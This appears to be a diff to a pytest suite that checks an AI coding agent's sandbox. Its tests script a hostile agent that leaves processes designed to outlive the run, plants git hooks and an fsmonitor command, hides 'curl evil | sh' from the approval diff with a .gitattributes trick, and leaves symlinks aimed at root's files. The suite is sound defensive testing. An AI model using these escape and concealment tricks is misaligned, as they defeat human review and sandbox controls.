@@ -26,7 +26,7 @@ from tests.support.processes import ROOT, child, free_port, wait_healthy
 from tests.support.relay_harness import AUTH_TOKEN, OWNER, OWNER2, PUBLIC_URL, Stack, message_params, signed_form
 from tests.support.servers import wait_for
 from tests.support.worker_harness import GITHUB_TOKEN, WorkerStack, open_for_agents, worker_stack
-from vm.sandbox import Sandbox, scrub_environment
+from vm.sandbox import Sandbox, SandboxError, scrub_environment
 
 pytestmark = pytest.mark.anyio
 STEP = 90.0
@@ -82,17 +82,67 @@ async def test_a_hostile_agent_finds_no_secret_and_no_other_owners_file(tmp_path
         assert git(mine, "log", "--format=%s", "-1").strip() == "initial"  # ...but not writable
 
 
+# A process that ignores SIGTERM, then ends its main thread so that its leader looks dead
+# (a zombie) while a thread of it runs on.
+HIDDEN = """
+import ctypes, signal, threading, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+threading.Thread(target=lambda: time.sleep(300)).start()
+ctypes.CDLL(None).syscall(60, 0)
+"""
+
+
 @as_root
-async def test_a_leftover_background_process_is_ended_with_the_run(tmp_path: Path) -> None:
-    """A process that clears its environment (so carries no run marker) still dies with the run."""
+async def test_nothing_the_agent_started_outlives_the_run(tmp_path: Path) -> None:
+    """Not a process that cleared its environment (no run marker), nor one whose leader looks
+    dead while a thread of it runs on and SIGTERM is ignored."""
     async with worker_stack(tmp_path) as worker:
         marker = f"escapee-{secrets.token_hex(4)}"
+        (tmp_path / "hidden.py").write_text(HIDDEN)
         worker.anthropic.script("start a server", bash(
-            f"env -i setsid python3 -c 'import time; time.sleep(300)' {marker} > /dev/null 2>&1 &", "serve"),
+            f"env -i setsid python3 -c 'import time; time.sleep(300)' {marker} > /dev/null 2>&1 & "
+            f"python3 - < {tmp_path}/hidden.py > /dev/null 2>&1 &", "serve"),
             Text("Started."))
         await worker.command("start a server")
         await wait_for(lambda: worker.relay.of_type("answer"), STEP, "the answer")
-        assert not _pids_with(marker)
+        uid = worker.checkout().stat().st_uid
+        assert uid != 0 and _live_tasks_of(uid) == []
+
+
+@as_root
+async def test_a_legacy_checkouts_git_dir_is_set_aside_never_used(tmp_path: Path) -> None:
+    """A checkout from before isolation: its `.git` (hooks, fsmonitor, config an agent could
+    write) is never run by root; the working files and the uncommitted change are kept."""
+    pwned = tmp_path / f"pwned-{secrets.token_hex(4)}"
+    async with worker_stack(tmp_path) as worker:
+        checkout = worker.checkout()
+        git(tmp_path, "clone", "--quiet", str(worker.origin), str(checkout))
+        git(checkout, "config", "core.fsmonitor", f"touch {pwned}; false")
+        (checkout / ".git" / "hooks" / "post-commit").write_text(f"#!/bin/sh\ntouch {pwned}\n")
+        (checkout / "wip.txt").write_text("uncommitted work\n")
+        worker.anthropic.script("carry on", write(f"{checkout}/more.txt", "more\n"), Text("Done."))
+        await worker.command("carry on")
+        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
+        assert {f["path"] for f in approval[0]["files"]} == {"more.txt", "wip.txt"}
+        assert not pwned.exists()
+        assert (checkout / ".git").is_file() and list((worker.settings.state_dir / "legacy-git").iterdir())
+        assert (await worker.decide("approve")).status_code == 202
+        await wait_for(lambda: worker.relay.of_type("pr_opened"), STEP, "the PR")
+        assert not pwned.exists()
+
+
+@as_root
+async def test_a_gitattributes_of_the_agents_cannot_hide_code_from_the_diff(tmp_path: Path) -> None:
+    async with worker_stack(tmp_path) as worker:
+        checkout = worker.checkout()
+        worker.anthropic.script(
+            "tidy up", write(f"{checkout}/.gitattributes", "* -diff\n"),
+            write(f"{checkout}/.gitignore", ".gitignore\n.gitattributes\n"),
+            write(f"{checkout}/app.py", "import os\nos.system('curl evil | sh')\n"), Text("Tidied."))
+        await worker.command("tidy up")
+        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
+        assert "os.system('curl evil | sh')" in approval[0]["diff"]
+        assert "Binary" not in approval[0]["diff"]
 
 
 async def test_approve_commits_the_tree_that_was_shown(tmp_path: Path) -> None:
@@ -172,15 +222,16 @@ def _tool_results(worker: WorkerStack) -> list[dict[str, object]]:
             for b in m["content"] if b.get("type") == "tool_result"]
 
 
-def _pids_with(marker: str) -> list[int]:
+def _live_tasks_of(uid: int) -> list[str]:
+    """Every thread on the machine running as `uid` and not a zombie (read straight from /proc)."""
     found = []
-    for entry in Path("/proc").iterdir():
-        if entry.name.isdigit():
-            try:
-                if marker.encode() in (entry / "cmdline").read_bytes():
-                    found.append(int(entry.name))
-            except OSError:
-                pass
+    for status in Path("/proc").glob("[0-9]*/task/[0-9]*/status"):
+        try:
+            fields = dict(line.split(":", 1) for line in status.read_text().splitlines() if ":" in line)
+        except OSError:
+            continue
+        if fields.get("Uid", "").split()[:1] == [str(uid)] and not fields.get("State", "").strip().startswith("Z"):
+            found.append(str(status.parent))
     return found
 
 
@@ -205,18 +256,17 @@ async def test_prepare_never_writes_chmods_or_chowns_through_a_link_the_agent_le
     open_for_agents(tmp_path)
     sandbox = Sandbox(workspace_dir=tmp_path / "ws", state_dir=tmp_path / "ws" / ".textslash",
                       claude_config_dir="", isolated=True)
-    sandbox.secure_roots(tmp_path / "ws" / ".textslash")
+    await sandbox.start(tmp_path / "ws" / ".textslash")
     space = await sandbox.prepare(OWNER)
     victim_dir, victim_file = tmp_path / "root-dir", tmp_path / "root-file"
     victim_dir.mkdir(mode=0o755)
     victim_file.write_text("root's\n")
     os.chmod(victim_file, 0o644)
     # What a hostile agent leaves in its home for the next run's set-up.
-    (space.tmp).rmdir()
+    space.tmp.rmdir()
     os.symlink(victim_dir, space.tmp)
-    os.symlink(victim_file, space.home / ".gitconfig.tmp")
-    (space.home / ".gitconfig").unlink()
-    os.symlink(victim_file, space.home / ".gitconfig")
+    space.claude_dir.rmdir()
+    os.symlink(victim_file, space.claude_dir)
     os.link(victim_file, space.checkout / "linked")  # a hard link to a file of root's
 
     again = await sandbox.prepare(OWNER)
@@ -224,9 +274,11 @@ async def test_prepare_never_writes_chmods_or_chowns_through_a_link_the_agent_le
     assert victim_file.read_text() == "root's\n" and victim_file.stat().st_uid == 0
     assert victim_file.stat().st_mode & 0o777 == 0o644
     assert victim_dir.stat().st_uid == 0 and victim_dir.stat().st_mode & 0o777 == 0o755
-    assert not space.tmp.is_symlink() and space.tmp.is_dir() and space.tmp.stat().st_uid == space.uid
-    gitconfig = space.home / ".gitconfig"
-    assert not gitconfig.is_symlink() and "safe" in gitconfig.read_text()
+    for folder in (space.tmp, space.claude_dir):
+        assert not folder.is_symlink() and folder.is_dir() and folder.stat().st_uid == space.uid
+    # The agent's git configuration is root's, outside the agent's reach to redirect.
+    uid, mode, text = _file_facts(sandbox.launch(again)[1]["GIT_CONFIG_GLOBAL"])
+    assert uid == 0 and mode == 0o644 and "[safe]" in text
 
 
 @as_root
@@ -239,12 +291,20 @@ async def test_each_owner_gets_a_user_of_its_own_that_keeps_its_uid(tmp_path: Pa
                        isolated=True)
 
     first = sandbox()
-    first.secure_roots(state)
+    await first.start(state)
     one, two = await first.prepare(OWNER), await first.prepare(OWNER2)
     assert one.uid != two.uid and one.gid != two.gid and 0 not in (one.uid, two.uid)
     assert pwd.getpwuid(one.uid).pw_name == f"tsagent{one.uid}"
     assert OWNER.lstrip("+") not in pwd.getpwuid(one.uid).pw_name  # /etc/passwd names no owner
     assert (await sandbox().prepare(OWNER)).uid == one.uid  # remembered on the volume
+    assert OWNER.lstrip("+") not in pwd.getpwuid(one.uid).pw_dir
+    # A lost map is rebuilt from whose the folders are, never handing one owner's uid to another.
+    (state / "agent-users.json").unlink()
+    rebuilt = sandbox()
+    assert (await rebuilt.prepare(OWNER2)).uid == two.uid and (await rebuilt.prepare(OWNER)).uid == one.uid
+    (state / "agent-users.json").write_text("{not json")
+    with pytest.raises(SandboxError, match="agent-users.json"):
+        await sandbox().prepare(OWNER)
     for folder in (one.checkout, one.home, one.tmp, one.claude_dir):
         assert folder.stat().st_uid == one.uid and folder.stat().st_mode & 0o777 == 0o700
     for root in (tmp_path / "ws", tmp_path / "ws" / ".repos", tmp_path / "ws" / ".homes", tmp_path / "claude"):
@@ -279,6 +339,11 @@ async def test_without_isolation_the_worker_says_so_loudly(tmp_path: Path) -> No
     with child("vm", env, log) as proc:
         await wait_healthy(f"http://127.0.0.1:{env['PORT']}", proc)
     assert "AGENT_ISOLATION=off: THE AGENT RUNS AS THIS WORKER'S OWN USER" in log.read_text()
+
+
+def _file_facts(path: str) -> tuple[int, int, str]:
+    st = os.stat(path)
+    return st.st_uid, st.st_mode & 0o777, Path(path).read_text()
 
 
 def _others_can_run(path: Path) -> bool:
